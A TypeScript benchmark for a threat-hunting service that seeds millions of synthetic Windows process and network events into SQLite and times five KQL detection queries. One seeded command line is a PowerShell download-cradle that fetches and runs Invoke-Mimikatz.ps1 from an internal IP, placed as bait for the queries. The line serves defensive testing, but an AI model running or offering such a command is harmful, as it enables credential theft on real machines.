// npm run bench:hunt — seeds 10,000,000 DeviceProcessEvents rows (and 1,000,000 DeviceNetworkEvents)
// into a SQLite store under os.tmpdir(), then times five typical hunting queries through the hunting
// service and the store's read-only query worker.
// The store is set up as `vigil serve --hunting-indexes on` sets it up (the option's default is off):
// the store's schema, then HUNTING_INDEXES, then the rows, so the indexes grow as they do under ingest.
// Nothing the product does not do: no trigram text indexes (no option creates them), no ANALYZE.
// HUNT_BENCH_INDEXES=off measures the default configuration; HUNT_BENCH_ROWS=1000000 a quick run.
// Last line: `hunt: p50 <A> ms, max <B> ms over 5 queries on 10M rows with --hunting-indexes on`.
import Database from 'better-sqlite3';
import { mkdtempSync, rmSync } from 'node:fs';
import { loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { sql } from 'kysely';
import { createSqliteStore } from '../src/store/index.js';
import { createHuntingService, HUNTING_INDEXES, KQL_SQL_FUNCTIONS_MODULE } from '../src/hunting/index.js';

const ROWS = Number(process.env.HUNT_BENCH_ROWS ?? 10_000_000);
const HUNTING_INDEXES_ON = (process.env.HUNT_BENCH_INDEXES ?? 'on') === 'on';
const NET_ROWS = Math.max(1, Math.floor(ROWS / 10));
const RUNS = 3;

function lcg(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
    return s;
  };
}

const FILES = ['svchost.exe', 'chrome.exe', 'msedge.exe', 'explorer.exe', 'powershell.exe', 'cmd.exe', 'conhost.exe', 'RuntimeBroker.exe',
  'taskhostw.exe', 'OneDrive.exe', 'Teams.exe', 'outlook.exe', 'winword.exe', 'excel.exe', 'rundll32.exe', 'regsvr32.exe', 'wmic.exe',
  'certutil.exe', 'net.exe', 'whoami.exe', 'schtasks.exe', 'python.exe', 'git.exe', 'node.exe', 'code.exe', 'java.exe', 'sc.exe',
  'reg.exe', 'msiexec.exe', 'dllhost.exe'];
const COMMANDS = [
  (f: string, n: number) => `"C:\\Windows\\System32\\${f}" -k netsvcs -p -s Schedule${n % 13}`,
  (f: string, n: number) => `"C:\\Program Files\\App${n % 97}\\${f}" --type=renderer --field-trial-handle=${n}`,
  (f: string, n: number) => `${f} /c echo build-${n % 1000} > C:\\Temp\\out${n % 50}.txt`,
  (f: string, n: number) => `${f} -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\job${n % 200}.ps1`,
  (f: string, n: number) => `${f} C:\\Users\\user${n % 300}\\AppData\\Local\\Temp\\setup${n % 17}.dll,DllMain`,
];

const dir = mkdtempSync(join(tmpdir(), 'vigil-bench-hunt-'));
const file = join(dir, 'vigil.db');
// The database is several GB: remove it on Ctrl-C or a runner's timeout too, not only after a normal end.
for (const signal of ['SIGINT', 'SIGTERM'] as const) {
  process.once(signal, () => {
    rmSync(dir, { recursive: true, force: true });
    process.exit(130);
  });
}
try {
  // The store creates the schema (tables, indexes) and, as src/server.ts does with --hunting-indexes on,
  // the hunting indexes; the bulk load then uses one transaction per 500,000 rows and a prepared statement.
  const init = await createSqliteStore({ file });
  if (HUNTING_INDEXES_ON) for (const statement of HUNTING_INDEXES) await sql.raw(statement).execute(init.db);
  await init.close();
  const now = Date.now();
  const span = 29 * 86_400_000;
  const t0 = performance.now();
  const db = new Database(file);
  db.pragma('journal_mode = WAL');
  db.pragma('synchronous = OFF');
  db.pragma('cache_size = -262144');
  const proc = db.prepare(`INSERT INTO "DeviceProcessEvents" ("_SensorId", "_IngestedAt", "Timestamp", "DeviceId", "DeviceName", "ActionType",
    "FileName", "FolderPath", "SHA1", "ProcessId", "ProcessCommandLine", "AccountName", "AccountDomain", "InitiatingProcessFileName",
    "InitiatingProcessId", "InitiatingProcessCommandLine", "ReportId") VALUES (?, ?, ?, ?, ?, 'ProcessCreated', ?, ?, ?, ?, ?, ?, 'contoso', ?, ?, ?, ?)`);
  const rnd = lcg(42);
  const batch = 500_000;
  for (let start = 0; start < ROWS; start += batch) {
    db.transaction(() => {
      for (let i = start; i < Math.min(ROWS, start + batch); i++) {
        const r = rnd();
        const dev = (r >>> 8) % 2000;
        const f = FILES[(r >>> 19) % FILES.length];
        const n = rnd();
        let cmd = COMMANDS[(n >>> 24) % COMMANDS.length](f, n >>> 8);
        if ((n >>> 8) % 2000 === 7) cmd = `powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/Invoke-Mimikatz.ps1')"`;
        const ts = now - span + Math.floor((i / ROWS) * span);
        proc.run('bench-sensor', ts, ts, `dev-${dev}`, `host-${dev}.contoso.com`, f, `C:\\Windows\\System32\\${f}`,
          (r * 2654435761 >>> 0).toString(16).padStart(40, '0'), n % 65536, cmd, `user${dev % 300}`, 'explorer.exe', (r >>> 4) % 65536,
          'C:\\Windows\\Explorer.EXE', i + 1);
      }
    })();
    await new Promise((resolve) => setImmediate(resolve)); // lets a SIGINT/SIGTERM handler run between batches
  }
  const net = db.prepare(`INSERT INTO "DeviceNetworkEvents" ("_SensorId", "_IngestedAt", "Timestamp", "DeviceId", "DeviceName", "ActionType",
    "RemoteIP", "RemotePort", "RemoteUrl", "InitiatingProcessFileName", "InitiatingProcessId", "ReportId")
    VALUES (?, ?, ?, ?, ?, 'ConnectionSuccess', ?, ?, ?, ?, ?, ?)`);
  db.transaction(() => {
    for (let i = 0; i < NET_ROWS; i++) {
      const r = rnd();
      const dev = (r >>> 8) % 2000;
      const ts = now - span + Math.floor((i / NET_ROWS) * span);
      const port = [443, 80, 445, 3389, 4444, 53][(r >>> 12) % 6];
      net.run('bench-sensor', ts, ts, `dev-${dev}`, `host-${dev}.contoso.com`, `10.${(r >>> 8) % 256}.${(r >>> 16) % 256}.${r % 256}`, port,
        `site${r % 5000}.example.com`, FILES[(r >>> 20) % FILES.length], (r >>> 4) % 65536, i + 1);
    }
  })();
  db.close();
  const seeded = performance.now();
  console.log(`seeded ${ROWS.toLocaleString('en')} DeviceProcessEvents + ${NET_ROWS.toLocaleString('en')} DeviceNetworkEvents rows in ${((seeded - t0) / 1000).toFixed(1)} s`);
  console.log(`configuration: --hunting-indexes ${HUNTING_INDEXES_ON ? 'on' : 'off'} (default off; on adds the (DeviceName, Timestamp) and (FileName, Timestamp) indexes that summarize … by DeviceName / FileName read in key order)`);

  const store = await createSqliteStore({ file, queryFunctionsModule: KQL_SQL_FUNCTIONS_MODULE });
  const hunting = createHuntingService({ store, timeoutMs: 600_000 });
  const queries: [string, string][] = [
    ['has filter, 7 days', 'DeviceProcessEvents | where Timestamp > ago(7d) | where ProcessCommandLine has "mimikatz" | project Timestamp, DeviceName, AccountName, ProcessCommandLine'],
    ['summarize count by DeviceName, bin(Timestamp, 1h)', 'DeviceProcessEvents | summarize count() by DeviceName, bin(Timestamp, 1h)'],
    ['join with DeviceNetworkEvents, 1 day', 'DeviceNetworkEvents | where Timestamp > ago(1d) and RemotePort == 4444 | join (DeviceProcessEvents | where Timestamp > ago(1d) and FileName == "powershell.exe") on DeviceId | project Timestamp, DeviceName, RemoteIP, ProcessCommandLine'],
    ['top 10 by count', 'DeviceProcessEvents | summarize Executions = count() by FileName | top 10 by Executions'],
    ['ProcessCommandLine contains, 7 days', 'DeviceProcessEvents | where Timestamp > ago(7d) | where ProcessCommandLine contains "invoke-mimi" | project Timestamp, DeviceName, ProcessCommandLine'],
  ];
  const medians: number[] = [];
  try {
    for (const [name, q] of queries) {
      const times: number[] = [];
      let rows = 0;
      for (let run = 0; run < RUNS; run++) {
        const s = performance.now();
        const res = await hunting.hunt(q);
        times.push(performance.now() - s);
        rows = res.rows.length;
      }
      times.sort((a, b) => a - b);
      const median = times[Math.floor(times.length / 2)];
      medians.push(median);
      console.log(`${name.padEnd(52)} ${String(Math.round(median)).padStart(6)} ms  (runs ${times.map((t) => Math.round(t)).join('/')} ms, ${rows} rows)`);
    }
  } finally {
    await store.close();
  }
  const sorted = [...medians].sort((a, b) => a - b);
  const p50 = sorted[Math.floor(sorted.length / 2)];
  const max = sorted[sorted.length - 1];
  const label = ROWS === 10_000_000 ? '10M' : `${ROWS}`;
  console.log(`load average ${loadavg().map((l) => l.toFixed(1)).join(' ')} (wall-clock times; the machine may be shared)`);
  console.log(`hunt: p50 ${Math.round(p50)} ms, max ${Math.round(max)} ms over ${queries.length} queries on ${label} rows with --hunting-indexes ${HUNTING_INDEXES_ON ? 'on' : 'off'}`);
} finally {
  rmSync(dir, { recursive: true, force: true });
}
